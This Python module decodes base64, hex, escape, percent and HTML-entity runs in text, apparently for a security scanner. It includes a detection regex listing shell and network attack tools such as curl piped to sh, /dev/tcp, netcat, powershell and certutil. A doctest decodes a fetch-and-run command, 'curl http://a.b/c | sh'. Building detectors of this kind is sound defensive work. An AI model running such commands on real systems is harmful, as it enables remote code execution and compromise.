"""Encoded texts: what a run of base64, hexadecimal digits or escapes says when it is decoded."""

from __future__ import annotations

import base64
import binascii
import html
import re
from typing import TYPE_CHECKING, Final
from urllib.parse import unquote_to_bytes

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

__all__ = ["EXECUTABLE", "decoded"]

# A longer run is decoded piece by piece; the number can be divided by 4 and by 2.
_LONGEST: Final = 8_192
_BASE64: Final = re.compile(rf"[A-Za-z0-9+/_-]{{20,{_LONGEST}}}")
# Looked for in what could be base64: each of its runs is a run of that, too.
_HEX: Final = re.compile(r"(?:[0-9a-fA-F]{2}){12,}")
_ESCAPES: Final = re.compile(r"(?:\\x[0-9a-fA-F]{2}|\\u00[0-9a-fA-F]{2}){8,2048}")
_PERCENT: Final = re.compile(r"(?:%[0-9a-fA-F]{2}){8,2048}")
_ENTITIES: Final = re.compile(r"(?:&#[xX]?[0-9a-fA-F]{2,4};){8,2048}")
_PRINTABLE: Final = re.compile(rb"[\t\n\r -~]{10,}")
_URL_SAFE: Final = str.maketrans("-_", "+/")

# What a shell, an interpreter or a page runs; words alone are no command.
EXECUTABLE: Final = re.compile(
    r"\b(?:curl|wget)\s[^\n]{0,200}(?:https?://|\d\.\d|\||-o\b)|/bin/(?:ba|da|z|k)?sh\b|\b(?:ba|da|z|k)?sh\s+-[ci]\b|/dev/tcp/"
    r"|\brm\s+-[a-z]{0,4}[rf]|\bchmod\s+(?:[ugoa]{0,3}\+|[0-7]{3})|\bpowershell\b|\binvoke-(?:expression|webrequest|restmethod)\b"
    r"|\b(?:nc|ncat|netcat)\s+-|\b(?:python3?|perl|ruby|node|php)\s+-[cer]\b|\beval\s{0,3}\(|\bexec\s{0,3}\(|\bos\.(?:system|popen)\b"
    r"|\bsubprocess\.|\bchild_process\b|\bbase64\s+(?:-d|--decode)|<script\b|\bmkfifo\b|\bcrontab\b|\bcertutil\b|\|\s{0,3}(?:ba)?sh\b"
    r"|\bnew-object\b|\b(?:cmd|cmd\.exe)\s+/c\b",
    re.IGNORECASE,
)


def decoded(text: str) -> Iterator[tuple[int, str]]:
    r"""Yield what encoded runs of a text say, with the place of each; whatever does not decode is passed over.

    >>> list(decoded("boot=Y3VybCBodHRwOi8vYS5iL2MgfCBzaA== x"))
    [(5, 'curl http://a.b/c | sh')]
    """
    for sign, pattern, decode in _WAYS:
        if sign in text:
            for run in pattern.finditer(text):
                for piece in decode(run.group()):
                    for said in _PRINTABLE.findall(piece):
                        yield run.start(), said.decode("ascii")


def _digits(run: str) -> Iterator[bytes]:
    """Decode a run of the characters of base64, which are those of hexadecimal digits and more."""
    for pair in _HEX.finditer(run):
        yield binascii.unhexlify(pair.group())
    yield from _base64(run)


def _base64(run: str) -> Iterator[bytes]:
    if run.islower() or run.isupper() or run.isdigit():
        return
    standard = run.translate(_URL_SAFE)
    # In front of the code may stand what belongs to no code, such as a path: each of the four beginnings is tried.
    for start in range(4):
        piece = standard[start : len(standard) - (len(standard) - start) % 4]
        rest = standard[start + len(piece) :]
        padded = piece + (rest + "=" * (4 - len(rest)) if len(rest) > 1 else "")
        yield base64.b64decode(padded)


def _escapes(run: str) -> Iterator[bytes]:
    yield bytes(int(code[-2:], 16) for code in run.split("\\")[1:])


def _percent(run: str) -> Iterator[bytes]:
    yield unquote_to_bytes(run)


def _entities(run: str) -> Iterator[bytes]:
    yield html.unescape(run).encode("ascii", "ignore")


# What has to be there before a pattern is tried, the pattern, and how its runs are decoded.
_WAYS: Final[tuple[tuple[str, re.Pattern[str], Callable[[str], Iterator[bytes]]], ...]] = (
    ("", _BASE64, _digits),
    ("\\", _ESCAPES, _escapes),
    ("%", _PERCENT, _percent),
    ("&#", _ENTITIES, _entities),
)
